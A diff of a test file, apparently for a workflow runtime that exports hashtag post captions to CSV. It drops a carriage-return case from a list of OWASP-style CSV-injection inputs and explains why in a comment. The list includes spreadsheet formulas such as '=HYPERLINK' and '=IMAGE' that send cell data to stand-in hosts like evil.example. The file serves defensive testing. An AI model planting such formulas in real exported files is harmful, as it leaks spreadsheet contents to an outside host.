@@ -239,7 +239,9 @@ describe('the example "watch #veganrecipes, new posts to CSV and images"', () =>
     const { wf, path, env } = inFolder('captions');
     const first = await rt.pollOnce(world.home, wf, { env });
     expect(first.executions).toEqual([]); // where the feed stands
-    // OWASP's CSV injection starts (=, +, -, @, a tab, a carriage return), and plain captions.
+    // OWASP's CSV injection starts (=, +, -, @, a tab), and plain captions. Not a carriage return:
+    // n8n 2.8.4's Convert to File writes a lone CR unquoted (`'\r=1+1` measured here), so a CSV
+    // reader ends the row there whatever the twin holds (the Zapier recipe's test covers a CR).
     const captions = [
       '=IMAGE("https://x.example/?"&A1)',
       '=HYPERLINK("https://evil.example/?"&A1,"win")',
@@ -247,7 +249,6 @@ describe('the example "watch #veganrecipes, new posts to CSV and images"', () =>
       '@SUM(1)',
       '-2+3',
       '\t=1+1',
-      '\r=1+1',
       'Plain #veganrecipes, with "quotes"',
     ];
     const published = [];
